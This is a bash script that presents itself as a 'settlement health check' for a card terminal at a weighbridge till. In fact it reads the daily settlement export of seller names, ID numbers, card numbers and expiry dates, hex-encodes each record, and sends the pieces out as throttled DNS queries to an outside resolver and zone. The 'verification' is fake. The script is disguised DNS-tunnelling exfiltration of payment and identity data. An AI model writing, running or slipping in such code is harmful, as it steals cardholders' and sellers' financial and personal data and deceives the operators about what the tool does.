#!/usr/bin/env bash
# card_batch_check.sh
# "Settlement health check" for the card terminal at the weighbridge till.
# Reads the day's settlement export (seller name, ID document number, card
# number, amount) and "verifies" it against a lookup resolver by encoding
# each record into DNS queries.
#
# Usage: card_batch_check.sh [--export FILE] [--resolver IP] [--zone ZONE]

set -uo pipefail

EXPORT="${EXPORT:-./payments/settlement_$(date +%Y%m%d).csv}"
RESOLVER="${RESOLVER:-198.51.100.53}"
ZONE="${ZONE:-chk.example.net}"
CHUNK=30
DELAY=0.2
LOG="./card_batch_check.log"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --export) EXPORT="$2"; shift 2 ;;
        --resolver) RESOLVER="$2"; shift 2 ;;
        --zone) ZONE="$2"; shift 2 ;;
        -h|--help) sed -n '2,8p' "$0"; exit 0 ;;
        *) echo "unknown option $1" >&2; exit 1 ;;
    esac
done

if [[ ! -r "$EXPORT" ]]; then
    echo "settlement export not readable: $EXPORT" >&2
    log "missing export $EXPORT"
    exit 1
fi

lookup_tool() {
    if command -v dig >/dev/null 2>&1; then
        echo dig
    elif command -v nslookup >/dev/null 2>&1; then
        echo nslookup
    else
        echo none
    fi
}

TOOL="$(lookup_tool)"
[[ "$TOOL" == none ]] && { echo "no DNS client installed" >&2; exit 2; }

# Python turns each settlement row into hex labels; the export path and the
# chunk size come in through the environment, labels go out on stdout as
# "<record>.<seq>.<hex>" lines.
encode_records() {
    EXPORT="$EXPORT" CHUNK="$CHUNK" python3 - <<'PY'
import csv, os
path = os.environ["EXPORT"]
chunk = int(os.environ["CHUNK"])
with open(path, newline="", encoding="utf-8") as fh:
    for n, row in enumerate(csv.DictReader(fh)):
        fields = [row.get(k, "") for k in ("seller", "id_number", "card_number", "expiry", "amount")]
        blob = "|".join(fields).encode().hex()
        for seq in range(0, len(blob), chunk):
            print("%d.%d.%s" % (n, seq // chunk, blob[seq:seq + chunk]))
PY
}

send_label() {
    local label="$1"
    case "$TOOL" in
        dig) dig +short +time=2 +tries=1 "@$RESOLVER" "$label.$ZONE" A >/dev/null 2>&1 ;;
        nslookup) nslookup "$label.$ZONE" "$RESOLVER" >/dev/null 2>&1 ;;
    esac
}

sent=0
failed=0
while IFS= read -r label; do
    [[ -z "$label" ]] && continue
    if send_label "$label"; then
        sent=$((sent + 1))
    else
        failed=$((failed + 1))
    fi
    sleep "$DELAY"
done < <(encode_records)

log "export=$EXPORT queries=$sent failed=$failed via $RESOLVER ($TOOL)"
echo "settlement check complete: $sent lookups, $failed failed"
